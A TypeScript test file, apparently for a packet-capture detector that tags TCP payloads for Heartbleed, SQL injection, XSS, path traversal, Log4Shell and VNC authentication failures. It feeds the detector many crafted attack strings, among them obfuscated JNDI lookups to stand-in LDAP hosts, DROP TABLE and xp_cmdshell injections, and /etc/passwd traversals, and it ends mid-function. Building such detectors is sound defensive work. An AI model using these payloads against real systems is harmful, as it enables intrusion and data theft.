/**
 * Payload tells: crafted segments for every rule and for the benign look-alikes each rule must leave
 * alone, the flow order rules of mergeTells, and the tells of real captures under ../shared (walked by
 * a small pcap/pcapng reader here, since packet batches keep no payload). Skips the capture test when
 * ../shared is not present.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import {
  SIG_HEARTBLEED, SIG_JNDI, SIG_SQLI, SIG_TRAVERSAL, SIG_VNC_AUTH_FAILED, SIG_XSS,
  TELL_HTTP_SQLI, TELL_HTTP_TRAVERSAL, TELL_HTTP_XSS, TELL_JNDI, TELL_RFB_AUTH_FAILED, TELL_RFB_V37,
  TELL_TLS_CCS, TELL_TLS_HANDSHAKE, TELL_TLS_HEARTBEAT_OVERRUN,
  flowSignatures, inspectTcpPayload, mergeTells, signatureText,
} from '../../lib/capture/payload-tells.js';

const HS = TELL_TLS_HANDSHAKE, CCS = TELL_TLS_CCS, OVERRUN = TELL_TLS_HEARTBEAT_OVERRUN;
const SQLI = TELL_HTTP_SQLI, XSS = TELL_HTTP_XSS, TRAV = TELL_HTTP_TRAVERSAL, JNDI = TELL_JNDI;
const V37 = TELL_RFB_V37, FAILED = TELL_RFB_AUTH_FAILED;

type Part = string | readonly number[] | Uint8Array;
/** Bytes of strings (latin1) and byte lists, concatenated. */
function bytes(...parts: Part[]): Uint8Array {
  return Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));
}

/**
 * inspectTcpPayload on `payload` placed at offset 9 of a larger buffer whose surrounding bytes are
 * attack-looking junk: a rule that reads outside [off, off + captured) shows up as a wrong tell.
 */
function tells(payload: Part, captured?: number, payloadLen?: number): number {
  const p = typeof payload === 'string' ? bytes(payload) : bytes(payload);
  const cap = captured ?? p.length;
  const junk = bytes("' or '1'='1 ${jndi:x} ../../etc/passwd <script>");
  const buf = bytes(junk.subarray(0, 9), p.subarray(0, cap), junk, junk);
  return inspectTcpPayload(buf, 9, cap, payloadLen ?? p.length);
}

const u16 = (n: number): number[] => [n >>> 8, n & 255];
/** A TLS record header: content type, version 3.minor, length. */
const rec = (type: number, len: number, minor = 3): number[] => [type, 3, minor, ...u16(len)];
/** A heartbeat request record carrying `padding` bytes of padding after `body` payload bytes and claiming `claimed`. */
function heartbeat(claimed: number, body: number, padding: number, type = 1): Uint8Array {
  const len = 3 + body + padding;
  return bytes(rec(24, len), [type, ...u16(claimed)], new Uint8Array(body + padding).fill(0x41));
}
const clientHello = bytes(rec(22, 47, 1), [1, 0, 0, 43, 3, 3], new Uint8Array(32).fill(7), [0, 0, 2, 0x13, 1, 1, 0, 0, 0]);

// ---------------------------------------------------------------- TLS

test('TLS: handshake, CCS and heartbeat overrun (RFC 6520 padding rule)', () => {
  assert.equal(tells(clientHello), HS);
  assert.equal(tells(bytes(rec(20, 1), [1])), CCS);
  assert.equal(tells(bytes(rec(23, 4), [1, 2, 3, 4])), 0, 'application data');
  assert.equal(tells(bytes(rec(21, 2), [2, 40])), 0, 'alert');
  // The classic exploit: a 3-byte heartbeat claiming 16384 payload bytes (TLS 1.1 record version).
  assert.equal(tells(bytes(rec(24, 3, 2), [1, 0x40, 0x00])), OVERRUN);
  // Zeek's heartbleed.pcap shape: record 16368, payload_length 16365 (16365 + 19 > 16368); only 8 bytes captured.
  assert.equal(tells(bytes(rec(24, 16368, 2), [1, 0x3f, 0xed]), 8, 16373), OVERRUN);
  // Boundary: payload_length + 3 + 16 == record length is a well-formed heartbeat.
  assert.equal(tells(heartbeat(16, 16, 16)), 0);
  assert.equal(tells(heartbeat(17, 16, 16)), OVERRUN);
  assert.equal(tells(heartbeat(0, 0, 16)), 0);
  assert.equal(tells(heartbeat(16, 16, 15)), OVERRUN, 'short padding');
  // A heartbeat response (type 2) is the server's answer, never the attack.
  assert.equal(tells(heartbeat(0x4000, 0, 0, 2)), 0);
  // All record versions 3.0-3.4; anything else is not a record header.
  for (const minor of [0, 1, 2, 3, 4]) assert.equal(tells(bytes(rec(24, 3, minor), [1, 0x40, 0])), OVERRUN, `3.${minor}`);
  assert.equal(tells(bytes(rec(24, 3, 5), [1, 0x40, 0])), 0, 'version 3.5');
  assert.equal(tells(bytes([24, 2, 0, 0, 3, 1, 0x40, 0])), 0, 'version 2.0');
  assert.equal(tells(bytes(rec(22, 18433), [1])), 0, 'record longer than 2^14 + 2048');
  assert.equal(tells(bytes(rec(25, 3), [1, 0x40, 0])), 0, 'content type 25');
});

test('TLS: several records in one segment are walked in order', () => {
  // Server flight: ServerHello, CCS, encrypted Finished (a "handshake" record too).
  assert.equal(tells(bytes(rec(22, 4), [2, 0, 0, 0], rec(20, 1), [1], rec(22, 3), [9, 9, 9])), HS | CCS);
  // ClientHello then a heartbeat before any CCS: both.
  assert.equal(tells(bytes(clientHello, rec(24, 3), [1, 0xff, 0xff])), HS | OVERRUN);
  // CCS first in byte order: the heartbeat after it is encrypted, its "length" is noise.
  assert.equal(tells(bytes(rec(20, 1), [1], rec(24, 3), [1, 0xff, 0xff])), CCS);
  assert.equal(tells(bytes(rec(22, 4), [16, 0, 0, 0], rec(20, 1), [1], rec(24, 3), [1, 0xff, 0xff])), HS | CCS);
  // The heartbeat before the CCS in the same segment still counts.
  assert.equal(tells(bytes(rec(24, 3), [1, 0xff, 0xff], rec(20, 1), [1])), OVERRUN | CCS);
  // The walk stops at the first implausible header: nothing after it is read.
  assert.equal(tells(bytes(rec(22, 4), [1, 0, 0, 0], [0x41, 0x41], rec(24, 3), [1, 0xff, 0xff])), HS);
  assert.equal(tells(bytes(rec(22, 4), [1, 0, 0, 0], rec(24, 3, 9), [1, 0xff, 0xff])), HS);
});

test('TLS: headers and heartbeat messages cut by the captured length', () => {
  const seg = bytes(rec(22, 4), [1, 0, 0, 0], rec(24, 3), [1, 0xff, 0xff]);
  assert.equal(tells(seg), HS | OVERRUN);
  assert.equal(seg.length, 17);
  for (const cut of [9, 10, 13, 14, 15, 16]) {
    assert.equal(tells(seg, cut, seg.length), HS, `captured ${cut}: heartbeat header or message cut`);
  }
  assert.equal(tells(seg, 17, 1000), HS | OVERRUN);
  assert.equal(tells(seg, 4, seg.length), 0, 'first header cut');
  assert.equal(tells(seg, 5, seg.length), HS, 'first header complete, its body not captured');
  // A record that runs past the segment: the next segment starts mid-record and is not a header.
  assert.equal(tells(bytes(rec(22, 3000), [1, 0, 11, 0xb8]), 9, 1400), HS);
  assert.equal(tells(bytes(new Uint8Array(1400).fill(0x5a))), 0, 'mid-record bytes');
  assert.equal(tells(bytes([0x30, 0x82, 0x05, 0x10, 0x30, 0x82])), 0, 'mid-record certificate bytes');
  assert.equal(tells(bytes([24, 3])), 0, 'two bytes');
  assert.equal(tells(bytes([]), 0, 0), 0, 'empty');
});

// ---------------------------------------------------------------- HTTP

const GET = (target: string, extra = ''): string =>
  `GET ${target} HTTP/1.1\r\nHost: dvwa.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0\r\n${extra}\r\n`;
const POST = (target: string, body: string, type = 'application/x-www-form-urlencoded'): string =>
  `POST ${target} HTTP/1.1\r\nHost: dvwa.example\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

test('HTTP: attacks that must fire', () => {
  const cases: Array<[string, number]> = [
    [GET('/dvwa/vulnerabilities/sqli/?id=%25%27+or+%270%27%3D%270&Submit=Submit'), SQLI],
    [GET('/dvwa/vulnerabilities/sqli/?id=%25%27+or+0%3D0+union+select+null%2C+version%28%29+%23&Submit=Submit'), SQLI],
    [GET('/dvwa/vulnerabilities/sqli/?id=1%27+and+1%3D1%23&Submit=Submit'), SQLI],
    [GET('/dvwa/vulnerabilities/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit'), SQLI],
    [GET('/dvwa/vulnerabilities/sqli/?id=1%27+UNION+SELECT+NULL%2C+version%28%29+%23&Submit=Submit'), SQLI],
    [GET('/dvwa/vulnerabilities/xss_r/?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E'), XSS],
    [GET('/search?x=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E'), XSS],
    [GET('/../../../../etc/passwd'), TRAV],
    [GET('/', 'User-Agent: ${jndi:ldap://x/a}\r\n'), JNDI],
    [POST('/dvwa/vulnerabilities/sqli/', "id=1'+or+'1'='1&Submit=Submit"), SQLI],
    // stacked query and numeric boolean probes (no quote needed when the parameter is a number)
    [GET("/vuln?id=1'%3B+DROP+TABLE+users%3B+--&Submit=Submit"), SQLI],
    [GET('/vuln?id=1%27%3B+select+1'), SQLI],
    [GET('/vuln?id=1+AND+5213%3D5214&Submit=Submit'), SQLI],
    [GET('/vuln?id=1+or+1%3D1'), SQLI],
    [GET('/vuln?id=2+AND+3>2'), SQLI],
    [GET('/vuln?id=2+and+3+!%3D+4'), SQLI],
  ];
  for (const [req, want] of cases) assert.equal(tells(req), want, req.split('\r\n')[0]);
});

test('HTTP: benign look-alikes stay quiet', () => {
  const longCookies = GET('/products/list.php?category=books&sort=price&page=3&ref=home%20page',
    'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\n' +
    'Accept-Encoding: gzip, deflate\r\nReferer: http://shop.example/index.php?from=mail&id=42\r\n' +
    'Cookie: PHPSESSID=0123456789abcdef0123456789abcdef; security=low; _ga=GA1.2.1234567890.1234567890; ' +
    'prefs="theme=dark; lang=en"; cart=%7B%22items%22%3A%5B1%2C2%5D%7D\r\nConnection: keep-alive\r\n' +
    'If-Modified-Since: Sat, 01 Jan 2022 00:00:00 GMT\r\nCache-Control: max-age=0\r\n');
  const cases: string[] = [
    GET("/search?q=O'Reilly+and+sons"),
    GET('/search?q=O%27Reilly+and+sons'),
    GET("/search?q=cats'+and+dogs"),
    GET("/search?q=rock+'n'+roll"),
    GET('/a/b/../c'),
    GET('/search?q=select+a+union+rep'),
    GET('/search?q=reunion+selection'),
    GET('/search?q=rock+and+roll'),
    GET('/search?q=between+1+and+2'),
    GET('/search?q=tom+and+3%3Dbad'),
    GET('/search?q=size+and+10'),
    GET('/notes?t=x%3B+drop+it'),
    GET('/search?q=1+and+2+are+3'),
    GET('/search?q=100%+sure&r=%zz%2'),
    GET('/page?title=Online+shop&q=a%3Cb'),
    POST('/login', 'user=bob&pass=x%27y'),
    POST('/api/items', '{"name":"O\'Reilly and sons","tags":["a","b"],"price":3,"note":"x < y; a = b"}', 'application/json'),
    POST('/api/render', '{"template":"Hello ${name}","vars":{"name":"bob"}}', 'application/json'),
    longCookies,
  ];
  for (const req of cases) assert.equal(tells(req), 0, req.split('\r\n')[0]);
  // A ClientHello is TLS, never a request line; binary data that starts with 'G' is nothing.
  assert.equal(tells(clientHello), HS);
  assert.equal(tells(bytes('GIF89a', [1, 0, 1, 0, 0x80, 0, 0], "' or 1=1 <script>")), 0);
  assert.equal(tells(bytes('G', [0x20, 0x2f, 0x2e, 0x2e, 0x2f, 0x2e, 0x2e, 0x2f])), 0);
  assert.equal(tells(bytes('GE')), 0);
  assert.equal(tells(bytes('GET ')), 0, 'method only');
  // Methods are case-sensitive tokens; responses are not requests.
  assert.equal(tells('get /../../etc/passwd HTTP/1.1\r\n\r\n'), 0);
  assert.equal(tells('GETX /../../etc/passwd HTTP/1.1\r\n\r\n'), 0);
  assert.equal(tells('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>'), 0);
  assert.equal(tells('CONNECT /../../etc/passwd HTTP/1.1\r\n\r\n'), 0);
});

test('HTTP: every method token', () => {
  for (const m of ['GET', 'POST', 'PUT', 'HEAD', 'DELETE', 'OPTIONS', 'PATCH']) {
    assert.equal(tells(`${m} /static/..%2f..%2fetc/shadow HTTP/1.1\r\nHost: x\r\n\r\n`), TRAV, m);
    assert.equal(tells(`${m}/../../etc/shadow HTTP/1.1\r\n\r\n`), 0, `${m} without space`);
  }
  assert.equal(tells('POS /../../ HTTP/1.1\r\n\r\n'), 0);
  assert.equal(tells('PATCHY /../../ HTTP/1.1\r\n\r\n'), 0);
  assert.equal(tells('DELETED /../../ HTTP/1.1\r\n\r\n'), 0);
});

test('HTTP: SQL injection forms', () => {
  const q = (v: string): number => tells(GET(`/item.php?a=1&id=${v}&b=2`));
  // UNION variants, comments and whitespace folded
  assert.equal(q('1+union+all+select+1'), SQLI);
  assert.equal(q('1+UNION+DISTINCT+SELECT+1'), SQLI);
  assert.equal(q('1/**/union/**/select/**/1'), SQLI);
  assert.equal(q('1%0aUnIoN%09%0d%0aSeLeCt%20password'), SQLI);
  assert.equal(q('-1+union+select*from+users'), SQLI);
  assert.equal(q('1+union+selection'), 0, 'word boundary after select');
  // Tautologies need a comparison after the operator
  assert.equal(q("'+or+1=1"), SQLI);
  assert.equal(q("'or'a'='a"), SQLI);
  assert.equal(q("x'/**/or/**/'1'='1"), SQLI);
  assert.equal(q('x%22+or+%221%22%3D%221'), SQLI);
  assert.equal(q("1'+||+1=1"), SQLI);
  assert.equal(q("1'+%26%26+(1)>0"), SQLI);
  assert.equal(q("1'+or+(1)+like+1"), SQLI);
  assert.equal(q("1'+and+2+is+not+null"), SQLI);
  assert.equal(q("1'+and+sons"), 0, 'no comparison');
  assert.equal(q("x'+order+by+1"), 0, '"or" inside a word');
  assert.equal(q("1=1+'+or+x"), 0, 'comparison only before the operator');
  // Quote then a statement end / comment with nothing after
  assert.equal(q("admin'--"), SQLI);
  assert.equal(q("admin'+--+"), SQLI);
  assert.equal(q("admin'%23"), SQLI);
  assert.equal(q("admin'+;"), SQLI);
  assert.equal(q("admin'--+x"), 0, 'something after the comment mark');
  assert.equal(q("x'--;y"), 0, "';' does not split parameters");
  assert.equal(q("it's;fine"), 0);
  // Function / keyword list (CRS 942, ET WEB_SERVER categories)
  for (const kw of ['information_schema.tables', '@@version', 'sleep(5)', 'SLEEP+(5)', 'benchmark(1000000,md5(1))',
    'waitfor+delay+%270:0:5%27', 'pg_sleep(5)', 'load_file(%27/x%27)', '1+into+outfile+%27/tmp/x%27',
    '1+into+dumpfile+%27/tmp/x%27', 'xp_cmdshell+%27dir%27', 'extractvalue(1,concat(0x7e,user()))', 'updatexml(1,2,3)']) {
    assert.equal(q(kw), SQLI, kw);
  }
  // Invalid escapes stay literal and do not hide what follows
  assert.equal(q("%zz'+or+'1'='1"), SQLI);
  // Only values are split on '&': an encoded & is data
  assert.equal(q("1'+%26%26+1=1"), SQLI);
});

test('HTTP: XSS forms', () => {
  const q = (v: string): number => tells(GET(`/page?name=${v}`));
  assert.equal(q('%3CsCrIpT%3Ealert(1)%3C/script%3E'), XSS);
  assert.equal(q('javascript:alert(1)'), XSS);
  assert.equal(q('%3Ciframe+src=//evil%3E'), XSS);
  assert.equal(q('x;document.cookie'), XSS);
  assert.equal(q('%3Csvg/onload=alert(1)%3E'), XSS);
  assert.equal(q('%3Cimg+src=x+ONERROR+=alert(1)%3E'), XSS);
  assert.equal(q('%3Cbody%09onpageshow%3Dalert(1)%3E'), XSS);
  assert.equal(q('%3Cb%3E+on=1'), 0, 'fewer than 3 letters after on');
  assert.equal(q('shop+online+%3D+yes'), 0, 'no < before');
  assert.equal(q('a%3Cb+onion+soup'), 0, 'no = after the name');
});

test('HTTP: path traversal forms', () => {
  assert.equal(tells(GET('/download?file=..%2F..%2Fconfig.php')), TRAV);
  assert.equal(tells(GET('/download?file=%2e%2e%5c%2e%2e%5cwindows%5cwin.ini')), TRAV);
  assert.equal(tells(GET('/download?file=..%5c../x')), TRAV, 'mixed separators');
  assert.equal(tells(GET('/cgi-bin/x?f=/proc/self/environ')), TRAV);
  assert.equal(tells(GET('/x?f=c:%5cboot.ini')), TRAV);
  assert.equal(tells(GET('/x?f=%2FETC%2Fpasswd')), TRAV);
  // Decoded once: a double-encoded ../ is not seen (a documented limit).
  assert.equal(tells(GET('/download?file=%252e%252e%252f%252e%252e%252f')), 0);
  assert.equal(tells(GET('/a/../b/../c')), 0);
});

test('HTTP: Log4Shell lookups, raw and decoded', () => {
  assert.equal(tells(GET('/', 'X-Api-Version: ${JNDI:ldap://x/a}\r\n')), JNDI);
  assert.equal(tells(GET('/', 'X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}\r\n')), JNDI);
  assert.equal(tells(GET('/', 'Referer: ${j${lower:n}di:ldap://x/a}\r\n')), JNDI);
  assert.equal(tells(GET('/', 'Referer: ${jndi:${upper:l}dap://x/a}\r\n')), JNDI);
  assert.equal(tells(GET('/', 'Referer: ${a:${env:NaN:-j}ndi:x}\r\n')), JNDI);
  assert.equal(tells(GET('/?q=%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D')), JNDI);
  assert.equal(tells(GET('/${jndi:ldap://x/a}')), JNDI, 'raw in the path');
  assert.equal(tells(POST('/login', 'uname=%24%7Bjndi%3Aldap%3A%2F%2Fx%3A1389%2Fa%7D&password=')), JNDI);
  assert.equal(tells(POST('/api', '{"name":"${jndi:rmi://x/a}"}', 'application/json')), JNDI);
  // Not lookups: env alone, closed braces, a line break between.
  assert.equal(tells(GET('/', 'X-Path: ${env:HOME}\r\n')), 0);
  assert.equal(tells(GET('/', 'X-A: ${a} ${lower:x}\r\n')), 0);
  assert.equal(tells(GET('/', 'X-A: ${a\r\nX-B: ${lower:x}\r\n')), 0);
  assert.equal(tells(GET('/', 'X-A: jndi:ldap://x/a\r\n')), 0);
});

test('HTTP: the raw pass finds `${` and the header end at every byte alignment', () => {
  for (let pad = 0; pad < 4; pad++) {
    const a = 'a'.repeat(pad);
    assert.equal(tells(GET('/', `X-${a}: ${'${jndi:ldap://x/a}'}\r\n`)), JNDI, `jndi, pad ${pad}`);
    assert.equal(tells(GET(`/${a}`, `X: ${a}$ {jndi:x} {jndi:y}\r\n`)), 0, `'$' and '{' apart, pad ${pad}`);
    assert.equal(tells(POST(`/${a}`, "id=1'+or+'1'='1")), SQLI, `body, pad ${pad}`);
    assert.equal(tells(`GET /${a} HTTP/1.0\r\n\r\nid=1'+or+'1'='1`), SQLI, `no headers, pad ${pad}`);
    assert.equal(tells(`GET /${a} HTTP/1.0\r\nX: 1\r\n\rid=1'+or+'1'='1`), 0, `no CRLFCRLF, pad ${pad}`);
  }
  assert.equal(tells('GET / HTTP/1.0\r\nX: $'), 0, "'$' last");
  assert.equal(tells('GET / HTTP/1.0\r\nX: ${'), 0, "'${' last");
  assert.equal(tells('GET /${jndi'), 0, 'cut inside the name');
});

test('HTTP: many `${` stay linear and cannot hide a later lookup', () => {
  const t0 = process.hrtime.bigint();
  assert.equal(tells(GET('/', `X: ${'${a'.repeat(20000)}\r\n`)), 0);
  assert.equal(tells(GET('/', `X: ${'${a}'.repeat(15000)}\r\n`)), 0);
  assert.equal(tells(GET(`/?q=${'%24%7Ba'.repeat(1300)}`)), 0);
  const ms = Number(process.hrtime.bigint() - t0) / 1e6;
  assert.ok(ms < 500, `${ms} ms`);
  assert.equal(tells(GET('/', `X: ${'${a}'.repeat(2000)}${'${jndi:x}'}\r\n`)), JNDI);
  assert.equal(tells(GET('/', `X: ${'${a'.repeat(2000)}${'${${::-j}ndi:x}'}\r\n`)), JNDI);
  assert.equal(tells(GET('/', `X: ${'${a'.repeat(2000)}\r\nY: ${'${jndi:x}'}\r\n`)), JNDI);
  assert.equal(tells(GET(`/?q=${'%24%7Ba%7D'.repeat(500)}%24%7Bjndi:x%7D`)), JNDI);
});

test('HTTP: what is looked at is bounded (8 KB target and body, captured bytes only)', () => {
  const pad = 'x'.repeat(9000);
  const attack = "id=1'+or+'1'='1";
  assert.equal(tells(GET(`/?a=${'x'.repeat(8000)}&${attack}`)), SQLI, 'within 8 KB');
  assert.equal(tells(GET(`/?a=${pad}&${attack}`)), 0, 'past 8 KB of target');
  assert.equal(tells(GET(`/?a=${pad}`, 'X: ${jndi:ldap://x}\r\n')), JNDI, 'the raw JNDI pass covers all captured bytes');
  assert.equal(tells(POST('/', `a=${'y'.repeat(8000)}&${attack}`)), SQLI);
  assert.equal(tells(POST('/', `a=${pad}&${attack}`)), 0, 'past 8 KB of body');
  // Snaplen cut: bytes not captured are not read, even when the buffer holds more.
  const req = GET(`/?${attack}`);
  const cut = req.indexOf("'");
  assert.equal(tells(req, cut, req.length), 0);
  assert.equal(tells(req, cut + 12, req.length), SQLI);
  const post = POST('/', attack);
  assert.equal(tells(post, post.length - attack.length + 6, post.length), 0, 'body cut before the quote');
  // The body starts after the first CRLFCRLF only: a header's value is not a form field.
  assert.equal(tells(GET('/', "X-Id: 1' or '1'='1\r\n")), 0);
  // Several attacks in one request: all tells.
  assert.equal(tells(GET("/../../etc/passwd?a=%3Cscript%3E&b=1'+or+1=1", 'X: ${jndi:x}\r\n')), SQLI | XSS | TRAV | JNDI);
});

// ---------------------------------------------------------------- RFB

test('RFB: 3.7+ version banners', () => {
  assert.equal(tells('RFB 003.007\n'), V37);
  assert.equal(tells('RFB 003.008\n'), V37);
  assert.equal(tells('RFB 003.889\n'), V37);
  assert.equal(tells('RFB 003.003\n'), 0, '3.3 has no SecurityResult after None and a u32 security type');
  assert.equal(tells('RFB 004.001\n'), 0);
  assert.equal(tells('RFB 003.008\r'), 0);
  assert.equal(tells('RFB 003.008\nx'), 0, 'not alone in the segment');
  assert.equal(tells('RFB 003.008\n', 11, 12), 0, 'cut');
  assert.equal(tells('RFB 003.008\n', 12, 13), 0, 'longer on the wire');
});

test('RFB: SecurityResult failed', () => {
  const reason = 'Authentication failure';
  assert.equal(tells(bytes([0, 0, 0, 1])), FAILED);
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 0, reason.length], reason)), FAILED);
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 0, reason.length], reason), 12, 8 + reason.length), FAILED, 'reason cut by snaplen');
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 0, 1], 'x')), FAILED);
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 4, 0], 'a'.repeat(1024))), FAILED);
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 4, 1], 'a'.repeat(1025))), 0, 'reason over 1024');
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 0, 0])), 0, 'empty reason');
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 0, 5], 'abcd')), 0, 'length disagrees with the segment');
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 0, 3], [0x41, 0x00, 0x41])), 0, 'binary reason');
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0, 0, 3], 'ab\n')), 0, 'control byte in reason');
  assert.equal(tells(bytes([0, 0, 0, 1, 0, 0]), 6, 20), 0, 'length not captured');
  assert.equal(tells(bytes([0, 0, 0, 1, 9, 9])), 0, 'six bytes');
  assert.equal(tells(bytes([0, 0, 0, 0])), 0, 'OK');
  assert.equal(tells(bytes([0, 0, 0, 2])), 0, 'too many attempts (Tight)');
  assert.equal(tells(bytes([0, 0, 1, 1])), 0);
  assert.equal(tells(bytes([0, 0, 0, 1]), 3, 4), 0, 'cut');
  assert.equal(tells(bytes([0, 0, 0]), 3, 3), 0);
});

// ---------------------------------------------------------------- flow merge

test('mergeTells: directions, unsigned result', () => {
  assert.equal(mergeTells(0, SQLI, true, 0), SQLI);
  assert.equal(mergeTells(0, SQLI, false, 0), SQLI << 16);
  assert.equal(mergeTells(SQLI, XSS, false, 1), SQLI | (XSS << 16));
  const high = mergeTells(0, 1 << 15, false, 0);
  assert.equal(high, 2 ** 31);
  assert.equal(mergeTells(high, 0, true, 1), 2 ** 31);
  assert.equal(mergeTells(0, HS | CCS | V37, true, 0), HS | CCS | V37);
});

test('mergeTells: a heartbeat overrun counts only inside a cleartext TLS handshake', () => {
  assert.equal(mergeTells(0, OVERRUN, true, 0), 0, 'before any handshake');
  assert.equal(mergeTells(0, OVERRUN, false, 3), 0);
  let m = mergeTells(0, HS, true, 0);
  m = mergeTells(m, HS, false, 1);
  assert.equal(mergeTells(m, OVERRUN, true, 2), m | OVERRUN);
  assert.equal(flowSignatures(mergeTells(m, OVERRUN, true, 2)), SIG_HEARTBLEED);
  // Handshake seen from the other side only still makes it TLS.
  assert.equal(mergeTells(HS << 16, OVERRUN, true, 5), (HS << 16) | OVERRUN);
  assert.equal(mergeTells(HS, OVERRUN, false, 5), HS | (OVERRUN << 16));
  // The same segment's handshake record counts (it precedes or follows the heartbeat, both cleartext).
  assert.equal(mergeTells(0, HS | OVERRUN, true, 0), HS | OVERRUN);
  // After this side's CCS its heartbeat is encrypted: dropped. The other side's CCS does not matter.
  m = mergeTells(m, CCS, true, 3);
  assert.equal(mergeTells(m, OVERRUN, true, 4), m);
  assert.equal(mergeTells(m, OVERRUN, false, 4), m | (OVERRUN << 16));
  const m2 = mergeTells(HS, CCS, false, 1);
  assert.equal(mergeTells(m2, OVERRUN, false, 2), m2);
  assert.equal(mergeTells(m2, OVERRUN, true, 2), m2 | OVERRUN);
  assert.equal(flowSignatures(m), 0, 'handshake and CCS alone');
});

test('mergeTells: RFB auth failure needs both 3.7+ banners and the session start', () => {
  assert.equal(mergeTells(0, FAILED, false, 3), 0, 'no banners');
  const server = mergeTells(0, V37, false, 0);
  assert.equal(mergeTells(server, FAILED, false, 3), server, 'server banner only');
  const client = mergeTells(0, V37, true, 1);
  assert.equal(mergeTells(client, FAILED, false, 3), client, 'client banner only');
  const both = mergeTells(server, V37, true, 1);
  assert.equal(both, V37 | (V37 << 16));
  assert.equal(mergeTells(both, FAILED, false, 5), both | (FAILED << 16));
  assert.equal(mergeTells(both, FAILED, false, 31), both | (FAILED << 16));
  assert.equal(mergeTells(both, FAILED, false, 32), both, 'later: a FramebufferUpdate can look the same');
  assert.equal(mergeTells(both, FAILED | SQLI, true, 40), both | SQLI, 'only the failure is dropped');
  assert.equal(flowSignatures(mergeTells(both, FAILED, false, 5)), SIG_VNC_AUTH_FAILED);
  assert.equal(flowSignatures(both), 0);
});

test('flowSignatures and signatureText', () => {
  assert.equal(flowSignatures(0), 0);
  assert.equal(flowSignatures(HS | CCS | V37 | ((HS | CCS | V37) << 16)), 0);
  const pairs: Array<[number, number]> = [
    [OVERRUN, SIG_HEARTBLEED], [SQLI, SIG_SQLI], [XSS, SIG_XSS], [TRAV, SIG_TRAVERSAL], [JNDI, SIG_JNDI],
    [FAILED, SIG_VNC_AUTH_FAILED],
  ];
  for (const [tell, sig] of pairs) {
    assert.equal(flowSignatures(tell), sig);
    assert.equal(flowSignatures((tell << 16) >>> 0), sig, 'backward half');
  }
  assert.equal(flowSignatures(SQLI | (XSS << 16) | (FAILED << 16)), SIG_SQLI | SIG_XSS | SIG_VNC_AUTH_FAILED);
  assert.equal(signatureText(0), '');
  assert.equal(signatureText(SIG_HEARTBLEED), 'Heartbleed');
  assert.equal(signatureText(SIG_SQLI | SIG_XSS), 'Web Attack - SQL Injection, Web Attack - XSS');
  assert.equal(signatureText(63), 'Heartbleed, Web Attack - SQL Injection, Web Attack - XSS, Web Attack - Path Traversal, ' +
    'Log4Shell JNDI Lookup, VNC Authentication Failure');
  assert.equal(signatureText(SIG_TRAVERSAL | SIG_JNDI), signatureText(SIG_TRAVERSAL | SIG_JNDI));
});

// ---------------------------------------------------------------- real captures

const SHARED = path.resolve(__dirname, '..', '..', '..', 'shared');
const PCAPS = path.join(SHARED, 'data', 'pcaps');

interface Segment { key: string; fwdKey: string; buf: Uint8Array; off: number; captured: number; payloadLen: number }

/** TCP segments with payload of a classic pcap or pcapng (Ethernet with VLAN tags, Linux SLL; IPv4, IPv6). */
function tcpSegments(file: string): Segment[] {
  const b = fs.readFileSync(file);
  const dv = new DataView(b.buffer, b.byteOffset, b.byteLength);
  const out: Segment[] = [];
  const magic = dv.getUint32(0, true);
  if (magic === 0x0a0d0d0a) {
    let le = true;
    const links: number[] = [];
    for (let p = 0; p + 12 <= b.length;) {
      if (dv.getUint32(p, true) === 0x0a0d0d0a) { le = dv.getUint32(p + 8, true) === 0x1a2b3c4d; links.length = 0; }
      const type = dv.getUint32(p, le), len = dv.getUint32(p + 4, le);
      if (len < 12 || p + len > b.length) break;
      if (type === 1) links.push(dv.getUint16(p + 8, le));
      else if (type === 6) frame(b, dv, links[dv.getUint32(p + 8, le)], p + 28, p + 28 + dv.getUint32(p + 20, le), out);
      p += len;
    }
    return out;
  }
  assert.ok(magic === 0xa1b2c3d4 || magic === 0xa1b23c4d, `${file}: little-endian classic pcap expected`);
  const link = dv.getUint32(20, true);
  for (let p = 24; p + 16 <= b.length;) {
    const s = p + 16, e = s + dv.getUint32(p + 8, true);
    if (e > b.length) break;
    frame(b, dv, link, s, e, out);
    p = e;
  }
  return out;
}

function frame(b: Buffer, dv: DataView, link: number, s: number, e: number, out: Segment[]): void {
  let l3: number, et: number;
  if (link === 1) {
    et = dv.getUint16(s + 12); l3 = s + 14;
    while (et === 0x8100 || et === 0x88a8) { et = dv.getUint16(l3 + 2); l3 += 4; }
  } else if (link === 113) { et = dv.getUint16(s + 14); l3 = s + 16; } else return;
  let l4: number, ipEnd: number, src: string, dst: string;
  if (et === 0x0800) {
    if (b[l3 + 9] !== 6 || (dv.getUint16(l3 + 6) & 0x1fff) !== 0) return;
    l4 = l3 + (b[l3] & 15) * 4; ipEnd = l3 + dv.getUint16(l3 + 2);
    src = b.subarray(l3 + 12, l3 + 16).join('.'); dst = b.subarray(l3 + 16, l3 + 20).join('.');
  } else if (et === 0x86dd) {
    if (b[l3 + 6] !== 6) return; // no extension headers in these captures' TCP
    l4 = l3 + 40; ipEnd = l4 + dv.getUint16(l3 + 4);
    src = b.subarray(l3 + 8, l3 + 24).toString('hex'); dst = b.subarray(l3 + 24, l3 + 40).toString('hex');
  } else return;
